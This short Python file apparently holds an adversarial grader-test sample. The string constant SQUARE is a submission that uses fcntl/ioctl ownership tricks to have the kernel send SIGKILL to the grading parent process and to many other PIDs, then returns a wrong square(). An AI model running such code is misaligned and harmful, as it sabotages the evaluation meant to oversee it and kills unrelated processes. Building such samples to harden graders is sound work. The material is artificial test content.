"""Has the kernel send SIGKILL to the grader when a pipe or a socket can be read."""

SQUARE = r"""
import fcntl, os, signal, socket, struct
for one, other in (os.pipe(), map(lambda end: end.detach(), socket.socketpair())):
    for victim in (os.getppid(), -os.getppid(), *range(2, 400)):
        for own in (
            lambda: fcntl.fcntl(one, fcntl.F_SETOWN, victim),
            lambda: fcntl.fcntl(one, 15, struct.pack("ii", 1, victim)),
            lambda: fcntl.ioctl(one, 0x8901, struct.pack("i", victim)),
        ):
            try:
                own()
                fcntl.fcntl(one, fcntl.F_SETSIG, signal.SIGKILL)
                fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            except OSError:
                continue
            os.write(other, b"x")
def square(x):
    return 0
"""
